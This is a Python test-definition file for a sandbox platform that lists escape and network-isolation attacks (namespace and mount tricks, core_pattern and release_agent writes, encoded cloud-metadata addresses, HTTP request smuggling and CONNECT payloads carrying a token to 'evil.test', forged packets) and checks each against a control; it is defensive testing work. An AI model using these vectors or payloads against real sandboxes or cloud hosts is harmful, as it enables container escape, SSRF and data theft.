"""The table of attacks: a name, what is tried, as whom, how it is refused, and the control, which is the
same with the wall away. `docs/attacks.md` is made from it."""

import dataclasses
import pathlib
from collections.abc import Callable

PAGE = pathlib.Path(__file__).resolve().parents[3] / "docs/attacks.md"
BOTH, USER, ROOT = ("user", "root"), ("user",), ("root",)


@dataclasses.dataclass(frozen=True)
class Attack:
    name: str
    group: str
    what: str
    who: str
    refusal: str
    control: str
    # Asserts both; with the world of `world.py`.
    check: Callable


ALL: dict[str, Attack] = {}
# Controls that this kernel, or this host's root, does not give, with the reason; printed at the end.
WITHOUT_CONTROL: dict[str, str] = {}


def add(attack):
    assert attack.name not in ALL, attack.name
    ALL[attack.name] = attack


def attack(group, name, what, who, refusal, control):
    """A function that attacks, and proves by itself that it could have worked."""

    def register(check):
        add(Attack(name, group, what, who, refusal, control, check))
        return check

    return register


# Words for what a call ends with, on the page.
ENDS = {
    "done": "works",
    "not there": "ends in the sandbox's own root",
    "none": "no descriptor leads out",
    "zeros": "all of them zero",
    "empty": "nothing is shown",
    "EINVAL in the control": "EINVAL",
}


@dataclasses.dataclass(frozen=True)
class Call:
    """An attack of `calls.py`."""

    name: str
    what: str
    refusal: tuple[str, ...] = ("EPERM",)
    # What shows that it passes: mostly that it works, else an error from behind the wall.
    control: tuple[str, ...] = ("done",)
    who: tuple[str, ...] = BOTH
    # `apart`: root of the host in throw-away namespaces; `host`: in its own, where that is harmless.
    at: str = "apart"
    # What the control may say instead, and why.
    void: tuple[tuple[str, str], ...] = ()

    def check(self, world):
        ran = world.calls()
        for who in self.who:
            said = ran[who][self.name]
            assert set(said.split("/")) <= set(self.refusal), f"as {who}: {said}"
        said = ran[self.at][self.name]
        reason = dict(self.void).get(said)
        if reason:
            WITHOUT_CONTROL[self.name] = f"{said}: {reason}"
        else:
            assert said in self.control, f"control: {said}"

    def row(self, group):
        words = lambda ends: ", ".join(ENDS.get(end, end) for end in ends)  # noqa: E731
        control = f"{self.at}: {words(self.control)}"
        for said, reason in self.void:
            control += f" ({said} {reason})"
        return Attack(self.name, group, self.what, ", ".join(self.who), words(self.refusal), control, self.check)


@dataclasses.dataclass(frozen=True)
class Send:
    """An attack of `packets.py`: its token must not arrive, and does without the rules."""

    name: str
    what: str
    # Arguments of the sender; addresses that are known only later are named by `world.sent`.
    plan: dict
    # From `sandbox`, `closed` (one without internet), `named` (one that may reach two domains),
    # `outside`, or `forged`: by the host's root in the sandbox's network, as if a sandbox could make
    # packets.
    source: str = "sandbox"
    # `rules`: the packet filter's table is empty; `plain`: from a machine without walls; `house`: from
    # the host itself; `open`: from a sandbox with internet.
    control: str = "rules"
    # Which witness counts, by its name; an answer counts always.
    witness: str = "outside"
    void: tuple[str, str] = ("", "")

    def check(self, world):
        sent = world.sent()
        arrived, said = sent["attack"][self.name]
        assert not arrived, said
        assert self.source != "forged" or said == "sent", said
        # Refused, and not lost on its way to a name server.
        assert "name" not in said.lower(), said
        arrived, said = sent[self.control][self.name]
        if self.void[0] and not arrived:
            WITHOUT_CONTROL[self.name] = self.void[1]
        else:
            assert arrived, f"control: {said}"

    def row(self, group):
        control = {
            "rules": "arrives without the packet filter's rules",
            "plain": "arrives from a machine without walls",
            "house": "arrives from the host itself",
            "open": "arrives from a sandbox with internet",
        }[self.control]
        if self.void[0]:
            control += f" ({self.void[1]})"
        who = {"sandbox": "user", "closed": "user", "named": "user", "outside": "outside"}.get(self.source, "forged")
        return Attack(self.name, group, self.what, who, "does not arrive", control, self.check)


NO_SUCH_CALL = ("ENOSYS", "where the kernel is built without it")
FAMILY = ("EAFNOSUPPORT",)
FILES = ("EACCES", "EROFS", "ENOENT", "EPERM")

CALLS = {
    "Namespaces and mounts": [
        Call("user-namespace-unshare", "a user namespace, where root has every capability: `unshare`"),
        Call("user-namespace-clone", "the same by `clone`"),
        Call("user-namespace-clone3", "the same by `clone3`, whose flags no filter can read", ("ENOSYS",)),
        Call("namespaces-unshare", "mount, network, IPC, name, group, process and time namespaces"),
        Call("setns-of-init", "entering those of process 1 by their files", ("EACCES", "EPERM")),
        Call("setns-by-pidfd", "entering them by its descriptor"),
        Call("namespace-owner", "from the network namespace, which is the host's, to its owner"),
        Call("id-map", "another map of ids onto the host's root", ("EPERM",)),
        Call("ids-out-of-range", "files and processes of ids beyond the 65 536", ("EINVAL",)),
        Call("clock-offsets", "shifting the clocks of a time namespace", ("EPERM", "EACCES")),
        Call("chroot-escape", "leaving the root by a working folder outside of it", ("not there", "EPERM")),
        Call("leaked-folders", "leaving it by an open descriptor of process 1, of the agent or inherited", ("none",)),
        Call("pivot-root", "another root"),
        Call("mount-tmpfs", "mounting a file system"),
        Call("mount-of-the-kernel", "mounting fresh `/proc`, `/sys`, control groups, terminals and queues"),
        Call("mount-bind", "mounting a folder once more"),
        Call("mount-writable", "making a read-only mount writable"),
        Call("unmount-a-mask", "taking away what lies over an entry of `/proc`"),
        Call("mount-by-new-calls", "`fsopen`, `open_tree`, `mount_setattr`, `move_mount`"),
        Call(
            "binary-formats",
            "a handler of binary formats, which the host would run",
            ("ENOENT", "EACCES"),
            void=(("ENOENT", "where the kernel has no binfmt_misc"),),
        ),
    ],
    "Processes and rights": [
        Call(
            "process-of-the-host",
            "a process of the host, by its number: signal, memory, limits, ptrace",
            ("ESRCH", "ENOENT"),
            at="host",
        ),
        Call("ptrace-of-the-agent", "tracing process 1 and the agent", who=USER),
        Call("memory-of-the-agent", "reading the agent's memory and environment", ("EACCES", "EPERM"), who=USER),
        Call("descriptors-of-the-agent", "taking the agent's descriptors", who=USER),
        Call("signals-to-the-agent", "killing process 1", who=USER),
        Call(
            "agent-overwritten",
            "overwriting the agent's program through `/proc/1/exe`",
            ("EACCES", "EROFS"),
            ("ETXTBSY",),
        ),
        Call("seccomp-suspended", "switching a child's system call filter off by ptrace"),
        Call(
            "calls-of-32-bits",
            "`keyctl` by the gate of 32-bit programs",
            ("ENOSYS",),
            void=(("SIGSEGV", "where the kernel has no 32-bit programs"),),
        ),
        Call(
            "calls-of-x32",
            "calls with the numbers of x32",
            ("ENOSYS",),
            void=(("ENOSYS", "where the kernel has no x32"),),
        ),
        Call("core-limit", "core dumps, which the host's handler would take"),
        Call(
            "memory-killer",
            "being spared by the kernel's memory killer",
            ("EACCES",),
            void=(("EACCES", "where the host's own root has no `CAP_SYS_RESOURCE`"),),
        ),
        Call("niceness", "a higher priority than others", ("EACCES", "EPERM")),
        Call("disk-priority", "a real-time priority at the disk"),
        Call("capabilities-raised", "`CAP_SYS_ADMIN` and `CAP_NET_ADMIN` by `capset`"),
        Call("capabilities-of-a-file", "`CAP_SYS_ADMIN` by a program file that carries it"),
    ],
    "Files of the kernel": [
        Call("core-pattern", "`/proc/sys/kernel/core_pattern`, a program that the host's root runs", FILES),
        Call("settings-of-the-kernel", "`kernel.modprobe`, `kernel.panic`, `vm.*`, `fs.*` and others", FILES),
        Call("settings-of-the-network", "forwarding, `route_localnet`, IPv6 of its own network", FILES),
        Call("settings-of-the-namespace", "raising `user.max_user_namespaces` again", FILES),
        Call("sysrq", "`/proc/sysrq-trigger`", FILES, void=(("ENOENT", "where the kernel has none"),)),
        Call("kernel-memory", "`/proc/kcore`, `/proc/kpageflags`", FILES),
        Call("kernel-log", "the kernel's log, by two files and a call", FILES),
        Call(
            "kernel-addresses",
            "addresses in `/proc/kallsyms`",
            ("zeros",),
            void=(("zeros", "where `kernel.kptr_restrict` hides them from everybody"),),
        ),
        Call("sys-written", "settings in `/sys`", FILES),
        Call("sys-read", "the host's disks, buses and modules in `/sys`", ("empty",)),
        Call(
            "release-agent",
            "the program that the host's root runs for an empty control group",
            ("ENOENT", "EROFS", "EACCES"),
            void=(("ENOENT", "where there are no groups of version 1"),),
        ),
        Call("group-left", "moving to another control group", FILES),
        Call("group-made", "making a control group", FILES),
        Call("group-limits", "writing its own limits", FILES),
    ],
    "Devices and file systems": [
        Call("disk-by-number", "a node for the disk of all writable layers, and reading it", at="host"),
        Call("devices-by-number", "nodes for the kernel's log, loop devices and FUSE", at="host"),
        Call("devices-by-name", "memory, disks, KVM, tunnels, FUSE, consoles in `/dev`", ("ENOENT",)),
        Call("loop-device", "a loop device", ("ENOENT",)),
        Call("handles", "files of the whole file system by handle, outside of every root", at="host"),
        Call(
            "places-of-the-host", "the platform's data and the layers of others, by their paths", ("ENOENT",), at="host"
        ),
        Call("attributes-of-the-overlay", "the overlay's attributes, which lead a path elsewhere", at="host"),
        Call("whiteout", "a node that hides a file of a lower layer", at="host"),
        Call("file-that-stays", "a file that nobody can delete", at="host"),
        Call("file-system-frozen", "freezing the file system that holds everybody's layers", control=("ENOTSUP",)),
        Call("requests-to-the-pool", "requests to the file system below the layer", ("ENOTTY",), at="host"),
        Call("quota", "quotas", void=(NO_SUCH_CALL,)),
        Call("swap", "swap", control=("ENOENT",)),
    ],
    "The machine": [
        Call("kernel-replaced", "loading another kernel", control=("EINVAL",), void=(NO_SUCH_CALL,)),
        Call(
            "modules",
            "loading and removing modules",
            control=("ENOENT/ENOEXEC", "ENOEXEC", "EINVAL/ENOEXEC"),
            void=(NO_SUCH_CALL,),
        ),
        Call("restart", "restarting the machine", control=("EINVAL",)),
        Call("clock", "setting the clock"),
        Call("clock-frequency", "bending the clock"),
        Call("ports", "input and output ports", void=(NO_SUCH_CALL,)),
        Call("accounting", "process accounting into a file"),
        Call("profile-cookie", "`lookup_dcookie`", control=("EINVAL",), void=(("ENOSYS", "since kernel 6.7"),)),
        Call("nfs-server", "`nfsservctl`", void=(("ENOSYS", "since kernel 3.1"),)),
        Call("personality", "a personality that makes memory executable"),
        Call("hang-up", "hanging up a terminal"),
        Call(
            "terminal-typing",
            "typing into a terminal (`TIOCSTI`)",
            void=(("EIO", "where `dev.tty.legacy_tiocsti` is off"),),
        ),
        Call("terminal-console", "the console's own requests (`TIOCLINUX`)", control=("ENOTTY",)),
        Call(
            "io-uring",
            "`io_uring`",
            ("ENOSYS",),
            void=(("EPERM", "where `kernel.io_uring_disabled` is 2"), NO_SUCH_CALL),
        ),
        Call("asynchronous-io", "`io_setup`, which takes from one number for the host", ("ENOSYS",)),
        Call("userfaultfd", "`userfaultfd`", void=(NO_SUCH_CALL,)),
        Call("bpf", "`bpf`", void=(NO_SUCH_CALL,)),
        Call("perf", "`perf_event_open`", void=(NO_SUCH_CALL,)),
        Call("fanotify", "`fanotify_init`", void=(NO_SUCH_CALL,)),
        Call("keyring", "`keyctl`", void=(NO_SUCH_CALL,)),
        Call("key-added", "`add_key`", void=(NO_SUCH_CALL,)),
        Call("key-requested", "`request_key`", control=("ENOKEY",), void=(NO_SUCH_CALL,)),
    ],
    "Sockets and links": [
        Call("vsock", "sockets to the hypervisor", FAMILY, void=(("EAFNOSUPPORT", "where the kernel has none"),)),
        Call("packet", "packets of its own making", FAMILY),
        Call(
            "xdp", "the same past the kernel (`AF_XDP`)", FAMILY, void=(("EAFNOSUPPORT", "where the kernel has none"),)
        ),
        Call("raw-sockets", "raw sockets: ICMP, whole packets, ICMPv6"),
        Call("transparent-sockets", "a sender's address that is another's"),
        Call("forced-options", "marks, priorities and buffers beyond the bounds"),
        Call("netfilter", "the packet filter", FAMILY),
        Call("netlink-families", "sockets' diagnosis, audit, xfrm, connector, generic", FAMILY),
        Call(
            "crypto-sockets", "the kernel's cryptography", FAMILY, void=(("EAFNOSUPPORT", "where the kernel has none"),)
        ),
        Call(
            "rare-families",
            "25 families that nobody needs",
            FAMILY,
            void=(("EAFNOSUPPORT", "where the kernel has none"),),
        ),
        Call("link-changed", "taking a link up or down"),
        Call("link-by-request", "the same by the old request"),
        Call("link-made", "a pair of links"),
        Call("address-added", "another's address"),
        Call("route-added", "routes and rules"),
        Call("neighbour-added", "entries for neighbours"),
        Call("traffic-shaped", "another queue on a link"),
        Call("abstract-socket", "an abstract socket of the host", ("ECONNREFUSED",), at="host"),
        Call("socket-of-the-node", "the node's own socket", ("ENOENT",), at="host"),
        Call("shared-memory", "shared memory and a message queue of the host, by their names", ("ENOENT",), at="host"),
    ],
}


def tcp(name, what, to, **more):
    return Send(name, what, {"kind": "tcp", "to": to, "port": 8765}, **more)


def udp(name, what, to, **more):
    plan = {"kind": "udp", "to": to, "port": 8765}
    plan.update({key: more.pop(key) for key in ("size", "source_address") if key in more})
    if "source_address" in plan:
        plan["source"] = plan.pop("source_address")
    return Send(name, what, plan, **more)


def forged(name, what, kind, to, source, **more):
    return Send(name, what, {"kind": kind, "to": to, "port": 8765, "source": source}, source="forged", **more)


def named(name, what, kind, to="198.51.100.9", port=443, control="open", **plan):
    """From a sandbox that may reach `open.test` and `*.wild.test`, and nothing else."""
    plan = {"kind": kind, "to": to, "port": port, **plan}
    return Send(name, what, plan, source="named", control=control)


def says(name, what, text, **more):
    return named(name, what, "text", port=more.pop("port", 80), says=text, **more)


GET = "GET /{0} HTTP/1.1\r\nHost: {1}\r\n\r\n"

SENDS = {
    "Network: other sandboxes and the host": [
        tcp("other-sandbox-tcp", "another sandbox", "OTHER", witness="other"),
        udp("other-sandbox-udp", "the same by UDP", "OTHER", witness="other"),
        Send("other-sandbox-ping", "the same by ICMP", {"kind": "ping", "to": "OTHER", "port": 0}, witness="other"),
        tcp("sandbox-from-outside", "a sandbox, from outside of the host", "OTHER", source="outside", witness="other"),
        tcp("gateway", "a service of the host at the gateway's address", "GATEWAY", witness="house"),
        udp("gateway-udp", "the same by UDP", "GATEWAY", witness="house"),
        udp(
            "gateway-fragments",
            "the same in fragments, whose later ones have no port",
            "GATEWAY",
            size=4000,
            witness="house",
        ),
        tcp("host-address", "a service of the host at its own address", "HOUSE", witness="house"),
        Send(
            "platform-listener",
            "the platform's API at the host's address",
            {"kind": "http", "to": "HOUSE", "port": "API"},
        ),
        tcp("host-loopback", "the host's loopback", "127.0.0.1", control="house", witness="house"),
        tcp("host-by-zero", "the same as `0.0.0.0`", "0.0.0.0", control="house", witness="house"),
        tcp(
            "host-by-mapped-loopback",
            "the same as `::ffff:127.0.0.1`",
            "::ffff:127.0.0.1",
            control="house",
            witness="house",
        ),
        tcp("host-by-loopback-6", "the same as `::1`", "::1", control="house", witness="house"),
        udp("multicast", "a group that the host has joined", "239.77.1.2", witness="house"),
        udp("broadcast", "everybody on the link", "255.255.255.255", witness="house"),
    ],
    "Network: metadata and private addresses": [
        tcp("metadata", "`169.254.169.254`", "169.254.169.254"),
        udp("metadata-udp", "the same by UDP", "169.254.169.254"),
        Send("metadata-ping", "the same by ICMP", {"kind": "ping", "to": "169.254.169.254", "port": 0}),
        udp("metadata-fragments", "the same in fragments", "169.254.169.254", size=4000),
        tcp("metadata-decimal", "the same as `2852039166`", "2852039166"),
        tcp("metadata-hexadecimal", "the same as `0xa9fea9fe`", "0xa9fea9fe"),
        tcp("metadata-octal", "the same as `0251.0376.0251.0376`", "0251.0376.0251.0376"),
        tcp("metadata-short", "the same as `169.254.43518`", "169.254.43518"),
        tcp("metadata-mapped", "the same as `::ffff:169.254.169.254`", "::ffff:169.254.169.254"),
        tcp("metadata-by-name", "the same by a name that anybody's name server gives it", "rebind.test"),
        tcp("metadata-of-tasks", "`169.254.170.2`", "169.254.170.2"),
        tcp("metadata-of-azure", "`168.63.129.16`", "168.63.129.16"),
        tcp("metadata-of-alibaba", "`100.100.100.200`", "100.100.100.200"),
        tcp("metadata-of-oracle", "`192.0.0.192`", "192.0.0.192"),
        tcp("private-10", "`10.0.0.0/8`", "10.9.8.7"),
        tcp("private-172", "`172.16.0.0/12`", "172.16.9.9"),
        tcp("private-192", "`192.168.0.0/16`", "192.168.9.9"),
    ],
    "Network: IPv6": [
        tcp("global-6", "an address of the internet's kind", "2001:db8::9", control="plain"),
        udp("global-6-udp", "the same by UDP", "2001:db8::9", control="plain"),
        tcp("metadata-6", "`fd00:ec2::254`", "fd00:ec2::254", control="plain"),
        tcp("link-local-6", "a link-local address", "fe80::9%eth0", control="plain"),
        udp("multicast-6", "everybody on the link, `ff02::1`", "ff02::1%eth0", control="plain"),
    ],
    "Network: names and policies": [
        Send(
            "dns-to-others",
            "a name server of one's own choice",
            {"kind": "dns", "to": "198.51.100.9", "port": 53},
            witness="<198.51.100.9 asked ",
        ),
        Send(
            "dns-to-others-tcp",
            "the same by TCP",
            {"kind": "dns_tcp", "to": "198.51.100.9", "port": 53},
            witness="<198.51.100.9 asked ",
        ),
        Send(
            "no-internet-tcp",
            "the internet, from a sandbox without it",
            {"kind": "tcp", "to": "198.51.100.9", "port": 8765},
            source="closed",
            control="open",
        ),
        Send(
            "no-internet-udp",
            "the same by UDP",
            {"kind": "udp", "to": "198.51.100.9", "port": 8765},
            source="closed",
            control="open",
        ),
        Send(
            "no-internet-ping",
            "the same by ICMP",
            {"kind": "ping", "to": "198.51.100.9", "port": 0},
            source="closed",
            control="open",
        ),
        Send(
            "no-internet-dns",
            "the same hidden in a name that is asked for",
            {"kind": "dns", "to": "198.51.100.53", "port": 53},
            source="closed",
            control="open",
        ),
    ],
    "Network: domains": [
        named("domain-other", "TLS to a domain that is not allowed", "hello", host="TOKEN.test"),
        named("domain-apex", "TLS to the domain of which what is below is allowed", "hello", host="wild.test"),
        named("domain-that-ends-alike", "TLS to `notwild.test`, beside `*.wild.test`", "hello", host="notwild.test"),
        named("domain-nameless", "TLS without a name", "hello"),
        named("domain-address", "TLS with an address as the name", "hello", host="198.51.100.9"),
        named(
            "domain-hidden",
            "TLS with the real name encrypted, behind an allowed one",
            "hello",
            host="open.test",
            hides=True,
        ),
        named(
            "domain-on-another-port", "TLS with an allowed name to another port", "hello", port=8765, host="open.test"
        ),
        named(
            "domain-to-metadata",
            "TLS to an allowed name that leads to the metadata service",
            "hello",
            to="169.254.169.254",
            control="house",
            host="rebind.wild.test",
        ),
        says("http-other", "HTTP with a host that is not allowed", GET.format("TOKEN", "evil.test")),
        says("http-address", "HTTP with an address as the host", GET.format("TOKEN", "198.51.100.9")),
        says("http-hostless", "HTTP without a host", "GET /TOKEN HTTP/1.0\r\n\r\n"),
        says(
            "http-two-hosts",
            "HTTP with an allowed host and another one",
            "GET /TOKEN HTTP/1.1\r\nHost: open.test\r\nHost: evil.test\r\n\r\n",
        ),
        says(
            "http-two-addresses",
            "HTTP with an allowed host and another address in its first line",
            GET.format("TOKEN", "open.test").replace("/", "http://evil.test/", 1),
        ),
        says(
            "http-second-request",
            "a second request with another host on the connection of an allowed one",
            GET.format("", "open.test") + GET.format("TOKEN", "evil.test"),
        ),
        says(
            "http-behind-a-body",
            "a request behind a body whose length is told twice",
            "POST / HTTP/1.1\r\nHost: open.test\r\nContent-Length: 4\r\nContent-Length: 90\r\n\r\nbody"
            + GET.format("TOKEN", "evil.test"),
        ),
        says(
            "http-behind-chunks",
            "a request behind chunks that the length includes",
            "POST / HTTP/1.1\r\nHost: open.test\r\nContent-Length: 90\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
            + GET.format("TOKEN", "evil.test"),
        ),
        says(
            "http-upgraded",
            "HTTP/2 by upgrade, where no hosts are read any more",
            "GET / HTTP/1.1\r\nHost: open.test\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\n"
            "HTTP2-Settings: \r\n\r\nPRI * HTTP/2.0\r\n\r\nTOKEN\r\n\r\n",
        ),
        says(
            "http-tunnel",
            "a tunnel (`CONNECT`) through an allowed host",
            "CONNECT evil.test:443 HTTP/1.1\r\nHost: open.test\r\n\r\nTOKEN",
        ),
        says(
            "http-to-metadata",
            "HTTP to an allowed host that leads to the metadata service",
            GET.format("TOKEN", "rebind.wild.test"),
            to="169.254.169.254",
            control="house",
        ),
        says(
            "http-encrypted-port", "HTTP with an allowed host to port 443", GET.format("TOKEN", "open.test"), port=443
        ),
        named("domains-tcp", "any other port", "tcp", port=8765),
        named("domains-quic", "QUIC, which is UDP to port 443", "udp"),
        named("domains-dns-over-tls", "DNS over TLS", "text", port=853, says="TOKEN"),
        named("domains-dns", "what is told by a name that is not allowed", "dns", port=53),
        named("domains-dns-tcp", "the same by TCP", "dns_tcp", port=53),
    ],
    "Network: forged packets": [
        forged("spoof-other", "another sandbox's address as sender", "forged_udp", "198.51.100.9", "OTHER"),
        forged("spoof-foreign", "a foreign address as sender", "forged_udp", "198.51.100.9", "198.51.100.200"),
        udp(
            "spoof-loopback", "`127.0.0.1` as sender, which needs no right", "198.51.100.9", source_address="127.0.0.1"
        ),
        forged(
            "spoof-and-host",
            "a foreign sender, to a service of the host",
            "forged_udp",
            "GATEWAY",
            "198.51.100.200",
            witness="house",
        ),
        forged(
            "tiny-fragments",
            "fragments of eight bytes, backwards, to a service of the host",
            "forged_fragments",
            "GATEWAY",
            "OWN",
            witness="house",
        ),
        forged(
            "overlapping-fragments",
            "a fragment that writes another port over the first one's",
            "forged_overlap",
            "GATEWAY",
            "OWN",
            witness="house",
            void=("dropped", "the kernel itself drops what overlaps"),
        ),
        forged(
            "middle-of-a-connection",
            "TCP without a beginning, to the metadata address",
            "forged_tcp",
            "169.254.169.254",
            "OWN",
        ),
        forged(
            "false-error",
            "an ICMP error about another sandbox's packets",
            "forged_error",
            "OTHER",
            "OWN",
            witness="other",
        ),
        forged("other-protocols", "GRE, ESP, SCTP and a tunnel", "forged_protocol", "198.51.100.9", "OWN"),
    ],
}

for group, rows in [*CALLS.items(), *SENDS.items()]:
    for row in rows:
        add(row.row(group))


HEAD = """\
# Attacks

What is tried against a sandbox's walls, from `tests/platform/attacks/`. This page is made from that table
(`python tests/platform/attacks/page.py`), and a test holds the two together: each row here is a test.

An attack counts as refused only beside its **control**: the same attempt where the wall is away, which must
work. *apart* is the same program as the host's root in throw-away namespaces, *host* as its root in its own.
Where this kernel or host cannot give a control, the row says in which case, the refusal is tested all the same,
and the test's report names it. As: *user* and *root* (by `sudo`) inside the sandbox; *forged*: by the host's
root in the sandbox's network namespace, as if a sandbox could make packets; *client*: through the listener;
*outside*: from another machine.

Every address is on an interface that the test made, in network namespaces without a default route.
"""


def page():
    text = HEAD
    for group in dict.fromkeys(each.group for each in ALL.values()):
        text += f"\n## {group}\n\n| Name | What is tried | As | Refused | Control |\n|---|---|---|---|---|\n"
        for each in ALL.values():
            if each.group == group:
                text += f"| `{each.name}` | {each.what} | {each.who} | {each.refusal} | {each.control} |\n"
    return text
